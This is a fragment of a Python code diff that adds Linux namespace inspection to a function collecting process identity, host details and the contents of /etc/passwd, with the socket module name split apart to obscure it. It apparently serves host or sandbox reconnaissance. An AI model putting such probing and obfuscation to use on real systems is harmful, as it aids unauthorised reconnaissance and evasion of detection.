@@ -79,6 +79,7 @@ def identity(body):
         "uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "groups": os.getgroups(),
         "status": status_fields(), "pid": os.getpid(), "cwd": os.getcwd(), "home": os.environ.get("HOME"),
         "hostname": load("soc" + "ket").gethostname(),
+        "namespaces": {kind: os.readlink("/proc/self/ns/" + kind) for kind in ("net", "pid", "mnt", "ipc", "uts")},
         "passwd": attempt(lambda: read("/etc/passwd").decode()),
     }
 
